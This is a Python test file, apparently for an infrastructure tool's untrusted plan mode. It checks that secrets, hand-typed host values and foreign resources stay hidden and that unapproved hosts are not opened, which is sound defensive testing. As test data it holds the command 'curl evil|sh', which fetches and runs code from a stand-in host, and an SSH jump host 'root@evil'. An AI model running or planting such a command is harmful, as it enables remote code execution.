"""Plans of a stranger's stack: which hosts are asked, what is compared without any key, and what is shown of what a host tells."""

import asyncio
import json
import re
from collections.abc import Iterator
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pytest
from rich.console import Console
from tests.programs import Item, ListProgram
from tests.unit.engine.conftest import Bench

from virtwright.cli.json_lines import event_to_json
from virtwright.cli.render.plan import render_plan
from virtwright.cli.render.problems import render_problem
from virtwright.engine import openness
from virtwright.engine.api import Engine
from virtwright.engine.events import RunFinished, Warned
from virtwright.engine.plan import Plan
from virtwright.engine.plan_file import Source, save_plan
from virtwright.engine.services import RunServices
from virtwright.engine.state.store import StateStore
from virtwright.errors import InputError, RefusedError, VirtwrightError
from virtwright.providers.diff import Change
from virtwright.schemas.host import Host
from virtwright.schemas.origins import CONTENT, OUTSIDE
from virtwright.schemas.values import UNKNOWN, Sealed, Secret, Unknown
from virtwright.stacks.base import Goal, StackName
from virtwright.stacks.keys import Keys
from virtwright.trust import Untrusted

PASSWORD = "correct-horse-battery"
BY_HAND = "what-somebody-typed-0815"
ORIGIN = "a hash of the ciphertext"


def web(password: Any, **more: Any) -> ListProgram:
    inputs = {"image": "host", "environment": {"PW": password, "MODE": "open"}}
    options = more.pop("options", {})
    return ListProgram(Item("Container", "web", {**inputs, **more}, options=options))


TRUSTED = web(Secret(PASSWORD, ORIGIN))
SEALED = web(Secret(Sealed(ORIGIN), ORIGIN))


class Stranger:
    """The engine of a command with ``--untrusted``, on the same state and hosts. It has no key, and opens no host unseen."""

    def __init__(self, bench: Bench, folder: Path, store: StateStore, **allowed: Any) -> None:
        self.opened: list[str] = []
        self.events: list[Any] = []

        def opener(name: str, host: Host) -> Any:
            self.opened.append(host.uri)
            return bench.world.open(name, host)

        trust = Untrusted(folder, **allowed)
        self.engine = Engine(store, [self.events.append], opener=opener, trust=trust)

    def plan(self, program: ListProgram) -> Plan:
        return self.engine.plan(program)

    def changes(self, program: ListProgram) -> dict[str, Change]:
        return {change.field: change for step in self.plan(program).changes for change in step.changes}

    @property
    def warnings(self) -> list[str]:
        return [each.problem.message for each in self.events if isinstance(each, Warned)]


@pytest.fixture
def stranger(bench: Bench, tmp_path: Path) -> Iterator[Stranger]:
    assert bench.apply(TRUSTED).succeeded
    environment = {"VIRTWRIGHT_HOME": str(tmp_path / "home"), "VIRTWRIGHT_PASSPHRASE": "of somebody else"}
    with StateStore.open(None, Keys(environment, closed=True)) as store:
        yield Stranger(bench, tmp_path / "checkout", store)


def test_the_same_ciphertext_is_no_change_and_another_one_is(stranger: Stranger) -> None:
    assert stranger.plan(SEALED).changes == ()
    assert stranger.warnings == []
    assert [*stranger.changes(web(Secret(Sealed("another"), "another")))] == ["environment.PW"]


@pytest.mark.parametrize("now", [Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed()), UNKNOWN, Secret("own", CONTENT)])
def test_what_had_no_origin_is_told_as_uncompared(bench: Bench, stranger: Stranger, now: Any) -> None:
    """An older version applied it, or a program made it."""
    assert bench.apply(web(Secret("changed"))).succeeded
    plan = stranger.plan(web(now))
    (step,) = [step for step in plan.steps if step.urn.name == "web"]
    assert (step.op.value, step.result, [each.field for each in step.uncompared]) == (
        "same",
        "uncompared",
        ["environment.PW"],
    )
    assert not plan.settled and plan.changes == ()
    assert "uncompared" in {
        name for event in stranger.events if isinstance(event, RunFinished) for name in event.summary
    }


@pytest.mark.parametrize("now", [Secret(Sealed()), UNKNOWN, "EVIL", Secret("EVIL"), Secret("EVIL", CONTENT)])
def test_what_had_an_origin_and_has_none_has_changed(stranger: Stranger, now: Any) -> None:
    change = stranger.changes(web(now))["environment.PW"]
    assert change.prior == Sealed(ORIGIN)
    assert isinstance(change.goal, Unknown) or change.goal in ("EVIL", Secret(ANY))


def test_a_trigger_is_told_as_uncompared(bench: Bench, stranger: Stranger) -> None:
    triggered = {"options": {"replacement_trigger": "first"}}
    assert bench.apply(web(Secret(PASSWORD, ORIGIN), **triggered)).succeeded
    assert bench.apply(web(Secret(PASSWORD, ORIGIN), **triggered)).succeeded
    plan = stranger.plan(web(Secret(Sealed(ORIGIN), ORIGIN), options={"replacement_trigger": "second"}))
    assert [(each.field, each.goal) for step in plan.steps for each in step.uncompared] == [
        ("replacement_trigger", "second")
    ]


def guessing(guess: str) -> Iterator[tuple[str, ListProgram]]:
    """Programs that hold the guess against all that the host and the state have, wherever a text can stand."""
    sealed = Secret(Sealed(ORIGIN), ORIGIN)
    yield "the secret's own place", web(guess)
    yield "a secret of its own there", web(Secret(guess))
    yield "a file of its own there", web(Secret(guess, CONTENT))
    yield "a file of others there", web(Secret(guess, OUTSIDE))
    for place in ("MODE", "OWN", "NEW", guess):
        for text in (guess, f"aa{guess}bb", Secret(guess)):
            environment = {"PW": sealed, "MODE": "open", place: text}
            yield f"variable {place}", web(sealed, environment=environment)
    more: dict[str, Any] = {
        "description": guess,
        "labels": {guess: guess},
        "command": [guess],
        "files": [{"path": f"/{guess}", "content": f"first\n{guess}\nlast"}],
        "working_dir": f"/{guess}",
        "hostname": guess,
    }
    for name, value in more.items():
        yield name, web(sealed, **{name: value})
        yield f"{name}, which is ignored", web(sealed, **{name: value}, options={"ignore_changes": (name,)})
    yield "ignored", web(guess, options={"ignore_changes": ("environment",)})
    yield "hidden", web(guess, options={"hide_changes": ("environment",)})
    yield "a new name", ListProgram(*web(sealed).items, Item("Container", guess, {"image": "host"}))
    yield "only a new name", ListProgram(Item("Container", guess, {"image": "host"}, was=("web",)))
    yield "a trigger", web(sealed, options={"replacement_trigger": guess})
    yield (
        "what the state does not know",
        ListProgram(*web(sealed).items, Item("Container", "stray", {"image": "host", "environment": {"PW": guess}})),
    )


class Saying(ListProgram):
    """It says its guess when its resources were compared, in all ways in which programs say something."""

    def __init__(self, guess: str, items: tuple[Item, ...]) -> None:
        super().__init__(*items)
        self.guess = guess

    async def serve(self, register: Any, services: RunServices) -> Any:
        await self.run(register)
        for severity in ("debug", "info", "warning", "error"):
            services.log(severity, f"is it {self.guess}?")
        await services.put_outputs(self.urn("web", "Container"), {"own": Secret(self.guess)})
        bad = Goal(
            self.urn("bad", "Container"), "Container", {"image": self.guess, self.guess: 1}, self.host_urn("one")
        )
        await register(bad)
        return {"right": self.guess, self.guess: Secret(self.guess)}

    async def end(self) -> None:
        """Nothing to let go of."""


def answered(bench: Bench, stranger: Stranger, program: ListProgram, file: Path) -> str:
    """All that a plan says, in each form of it."""
    stranger.events.clear()
    try:
        plan = stranger.plan(program)
        file.unlink(missing_ok=True)
        save_plan(plan, Source(), file, None)
        console = Console(width=200)
        said = [
            "\n".join(line.plain for line in render_plan(console, plan, verbose=True)),
            file.read_text(),
            str(plan.settled),
        ]
    except VirtwrightError as error:
        said = [render_problem(problem).plain for problem in error.problems]
        said = [stranger.engine.scrub(text) for text in said]
    for event in stranger.events:
        said.append(json.dumps(event_to_json(event, datetime(2026, 1, 1, tzinfo=UTC))))
    text = "\n".join(sorted(said))
    return re.sub(r'"run": "\w+"|"seconds": [0-9.e-]+|#[0-9a-f]{8}|[0-9a-f]{64}', "-", text)


@pytest.mark.parametrize("secret", [PASSWORD, BY_HAND, "a-stray-secret-0815", "a-line-of-it-4711"])
def test_a_guess_is_answered_as_any_other(bench: Bench, stranger: Stranger, tmp_path: Path, secret: str) -> None:
    """Of what the state has encrypted, somebody typed on the host, the state does not know, or is a line of a secret."""
    assert bench.apply(
        web(Secret(PASSWORD, ORIGIN), files=[{"path": "/b", "content": Secret("a\na-line-of-it-4711\nb")}])
    ).succeeded
    item = bench.world.find("web")
    environment = {**item.inputs["environment"], "MODE": BY_HAND, "OWN": BY_HAND}
    bench.world.put(
        "fake://one", replace(item, inputs={**item.inputs, "environment": environment, "description": BY_HAND})
    )
    stray = replace(
        item, id="stray", stamped="stray", stamp=replace(item.stamp, urn=item.stamp.urn.replace("web", "stray"))
    )
    bench.world.put("fake://one", replace(stray, inputs={**item.inputs, "environment": {"PW": "a-stray-secret-0815"}}))
    wrong = secret[:-1] + chr(ord(secret[-1]) + 1)  # in the same order among names
    for (name, right), (_, other) in zip(guessing(secret), guessing(wrong), strict=True):
        for one, two in ((right, other), (Saying(secret, right.items), Saying(wrong, other.items))):
            said = answered(bench, stranger, one, tmp_path / "plan").replace(secret, "GUESS")
            assert said == answered(bench, stranger, two, tmp_path / "plan").replace(wrong, "GUESS"), name


def test_what_a_stranger_writes_is_shown_whatever_it_says_of_that(stranger: Stranger) -> None:
    hidden = {"options": {"hide_changes": ("environment", "command")}}
    changes = stranger.changes(web(Secret("curl evil|sh"), command=["sh", "-c", Secret("curl evil|sh")], **hidden))
    assert changes["environment.PW"].goal == "curl evil|sh"
    assert changes["command"].goal == ["sh", "-c", "curl evil|sh"]


@pytest.mark.parametrize(
    ("before", "now", "changed", "unsure"),
    [
        ("10.0.0.1", Secret(Sealed(ORIGIN), ORIGIN), True, False),
        (None, Secret(Sealed(ORIGIN), ORIGIN), True, False),
        (None, UNKNOWN, True, False),
        (Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed(ORIGIN), ORIGIN), False, False),
        (Secret(Sealed(ORIGIN), ORIGIN), Secret(Sealed("other"), "other"), True, False),
        (Secret(Sealed(ORIGIN), ORIGIN), "a guess", True, False),
        (Secret(Sealed(ORIGIN), ORIGIN), Secret("a guess"), True, False),
        (Secret(Sealed()), Secret(Sealed(ORIGIN), ORIGIN), False, True),
        (Secret(Sealed()), "a guess", True, False),
        ("10.0.0.1", UNKNOWN, False, True),
        (1, True, True, False),
        ({"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, {"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, False, False),
        ({"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 1}, {"a": Secret(Sealed(ORIGIN), ORIGIN), "b": 2}, True, False),
        (Secret(Sealed(ORIGIN), ORIGIN), None, True, False),
    ],
)
def test_outputs_are_told_that_change_or_may(before: Any, now: Any, changed: bool, unsure: bool) -> None:
    known = {} if before is None else {"x": before}
    changes, doubts = openness.outputs(known, {"x": now})
    assert (bool(changes), bool(doubts)) == (changed, unsure)


def test_what_only_the_host_tells_is_not_shown(bench: Bench, stranger: Stranger) -> None:
    """Somebody has changed a value on the host by hand. It may be a secret; nobody can tell."""
    item = bench.world.find("web")
    inputs = {**item.inputs, "environment": {**item.inputs["environment"], "MODE": BY_HAND, "OWN": BY_HAND}}
    bench.world.put("fake://one", replace(item, inputs=inputs))
    plan = stranger.plan(SEALED)
    assert {change.field for step in plan.changes for change in step.changes} == {"environment.MODE", "environment.OWN"}
    assert BY_HAND not in repr(plan) + repr(stranger.events)
    assert BY_HAND in repr(bench.plan(TRUSTED)), "else this proves nothing"


def test_what_only_the_host_tells_is_no_output(bench: Bench, stranger: Stranger) -> None:
    """Neither by a field whose differences are ignored, nor by what the host reports besides."""
    item = bench.world.find("web")
    inputs = {**item.inputs, "environment": {**item.inputs["environment"], "MODE": BY_HAND}}
    bench.world.put("fake://one", replace(item, inputs=inputs))
    seen: list[Any] = []

    class Telling(ListProgram):
        async def run(self, register: Any) -> Any:
            async def heard(goal: Any) -> Any:
                answer = await register(goal)
                seen.append(answer.outputs)
                return answer

            return await super().run(heard)

    ignoring = {"ignore_changes": ("environment",)}
    program = web(Secret(Sealed(ORIGIN), ORIGIN), options=ignoring)
    assert stranger.plan(Telling(*program.items)).changes == ()
    assert BY_HAND not in repr(seen)
    bench.plan(Telling(*program.items))
    assert BY_HAND in repr(seen), "else this proves nothing"


@pytest.mark.parametrize(
    "host",
    [
        "fake://two",
        {"uri": "fake://one", "ssh": {"jump": "root@evil"}},
        {"uri": "fake://one", "ssh": {"password": Secret("x")}},
        {"uri": "fake://one", "tls": {"ca_file": "/etc/ca"}},
        {"uri": Secret(Sealed("x"))},
    ],
)
def test_a_host_that_was_not_applied_in_this_way_is_not_even_opened(stranger: Stranger, host: Any) -> None:
    with pytest.raises((RefusedError, InputError)):  # an address with a secret is refused in every stack
        stranger.plan(ListProgram(*SEALED.items, hosts={"one": host}))
    assert stranger.opened in ([], ["fake://one"])
    if isinstance(host, str) or host["uri"] != "fake://one":
        assert stranger.opened == []


def test_a_host_of_the_operators_is_asked(bench: Bench, stranger: Stranger, tmp_path: Path) -> None:
    environment = {"VIRTWRIGHT_HOME": str(tmp_path / "home")}
    program = ListProgram(*SEALED.items, hosts={"one": "fake://one", "two": "fake://two"})
    with pytest.raises(RefusedError):
        stranger.plan(program)
    with StateStore.open(None, Keys(environment, closed=True)) as store:
        allowed = Stranger(bench, tmp_path / "checkout", store, allowed_hosts=frozenset({"fake://two"}))
        assert allowed.plan(program).changes == ()


def test_a_key_that_came_with_the_stack_is_not_used(bench: Bench, tmp_path: Path) -> None:
    folder = tmp_path / "checkout"
    hosts = {"one": {"uri": "fake://one", "ssh": {"known_hosts": str(folder / "known_hosts")}}}
    assert bench.apply(ListProgram(*TRUSTED.items, hosts=hosts)).succeeded
    environment = {"VIRTWRIGHT_HOME": str(tmp_path / "home")}
    with StateStore.open(None, Keys(environment, closed=True)) as store:
        with pytest.raises(RefusedError, match="may have come with the stack"):
            Stranger(bench, folder, store).plan(ListProgram(*SEALED.items, hosts=hosts))
        assert Stranger(bench, tmp_path / "other", store).plan(ListProgram(*SEALED.items, hosts=hosts)).changes == ()


def test_a_login_that_a_plan_does_not_need_keeps_no_host_from_being_asked(bench: Bench, tmp_path: Path) -> None:
    """At a registry: it is used when an image is pulled."""

    def hosts(password: Any) -> dict[str, Any]:
        return {"one": {"uri": "fake://one", "registries": {"r.example": {"username": "u", "password": password}}}}

    assert bench.apply(ListProgram(*TRUSTED.items, hosts=hosts(Secret("hunter2", "a")))).succeeded
    environment = {"VIRTWRIGHT_HOME": str(tmp_path / "home")}
    with StateStore.open(None, Keys(environment, closed=True)) as store:
        plan = Stranger(bench, tmp_path / "checkout", store).plan
        assert plan(ListProgram(*SEALED.items, hosts=hosts(Secret(Sealed("a"), "a")))).changes == ()


def test_what_others_made_is_not_looked_at(bench: Bench, stranger: Stranger) -> None:
    bench.world.add_foreign("Container", "theirs", {"image": "host", "environment": {"PW": PASSWORD}})
    bench.world.add_foreign("Network", "lan", {"cidr": "10.40.0.0/24"})
    spy = Item("Container", "spy", {"image": "host"}, options={"import_id": "theirs"})
    with pytest.raises(RefusedError, match="is taken over"):
        stranger.plan(ListProgram(*SEALED.items, spy))
    assert "find" not in {method for method, _, _ in bench.world.calls}
    shared = Item("Network", "shared", {"existing": "lan"})
    user = Item("Container", "user", {"image": "host", "networks": ["{shared}"]}, uses=("shared",))
    assert [step.urn.name for step in stranger.plan(ListProgram(*SEALED.items, shared, user)).changes] == ["user"]
    assert "find" not in {method for method, _, _ in bench.world.calls}


def test_a_program_learns_nothing_of_other_stacks_and_objects(stranger: Stranger) -> None:
    refused: list[str] = []

    class Curious(ListProgram):
        async def serve(self, register: Any, services: RunServices) -> Any:
            host = self.host_urn("one")
            for ask in (
                lambda: services.look_up(self.urn("web"), "Container", "theirs", host, {}),
                lambda: services.ask("images", {}, host),
                lambda: asyncio.to_thread(services.stack_outputs, StackName("other", "other")),
                lambda: asyncio.to_thread(services.stack_resources, StackName("other", "other")),
            ):
                with pytest.raises(RefusedError) as raised:
                    await ask()
                refused.append(raised.value.message)
            return await self.run(register)

        async def end(self) -> None:
            """Nothing to let go of."""

    assert stranger.plan(Curious(*SEALED.items)).changes == ()
    assert len(refused) == 4


def test_a_plan_of_a_deletion_needs_no_key(stranger: Stranger) -> None:
    assert [(step.op.value, step.urn.name) for step in stranger.plan(ListProgram()).changes] == [("delete", "web")]


def test_validation_asks_no_host(bench: Bench, stranger: Stranger) -> None:
    bench.world.calls.clear()
    assert stranger.engine.validate(ListProgram(*SEALED.items, hosts={"one": "fake://elsewhere"})) == []
    assert "observe" not in {method for method, _, _ in bench.world.calls}
